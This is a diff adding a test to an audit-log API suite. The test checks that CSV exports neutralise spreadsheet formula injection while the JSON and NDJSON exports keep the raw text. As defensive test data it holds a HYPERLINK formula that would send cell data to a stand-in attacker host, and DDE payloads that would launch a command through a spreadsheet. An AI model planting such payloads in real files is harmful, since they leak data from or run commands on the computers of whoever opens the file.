@@ -125,3 +125,36 @@ def test_csv_and_ndjson_exports_round_trip(client, auth, history):
 
     everything = client.get(f"{ENV}/audit", headers={**auth("reader"), "Accept": "application/x-ndjson"})
     assert len(everything.data.decode().splitlines()) == len(history), "an export has no page limit"
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_csv_export_cannot_run_formulas_and_other_exports_keep_the_text(client, auth, make_token):
+    """Any cell a spreadsheet would run as a formula (reason, incident, actor...) gets a leading
+    quote in the CSV; JSON pages and NDJSON keep the exact text."""
+    actor = '=HYPERLINK("http://evil.example/?"&A1)'
+    hostile = {"Authorization": f"Bearer {make_token('operator', name=actor)}"}
+    client.put(f"{ENV}/flags/f", json={"kind": "kill_switch", "enabled": True}, headers=auth("admin"))
+    sent = []
+    for i, start in enumerate(FORMULA_STARTS):
+        body = {"reason": f"{start}cmd|' /C calc'!A{i}", "incident": f"{start}1+{i}"}
+        action = "restore" if i % 2 else "kill"
+        assert client.post(f"{ENV}/flags/f/{action}", json=body, headers=hostile).status_code == 200
+        sent.append(body)
+
+    url = f"{ENV}/audit?flag=f&order=oldest"
+    exported = client.get(url, headers={**auth("reader"), "Accept": "text/csv"})
+    create, *rows = csv.DictReader(io.StringIO(exported.data.decode(), newline=""))
+    assert [(r["actor"], r["reason"], r["incident"]) for r in rows] == [
+        ("'" + actor, "'" + body["reason"], "'" + body["incident"]) for body in sent
+    ]
+    assert create["actor"] == "admin" and create["action"] == "flag.create", "other cells as they were"
+
+    page = client.get(url, headers=auth("reader")).json["entries"]
+    ndjson = client.get(url, headers={**auth("reader"), "Accept": "application/x-ndjson"})
+    streamed = [json.loads(line) for line in ndjson.data.decode().splitlines()]
+    for entries in (page, streamed):
+        assert [(e["actor"], e["reason"], e["incident"]) for e in entries[1:]] == [
+            (actor, body["reason"], body["incident"]) for body in sent
+        ]
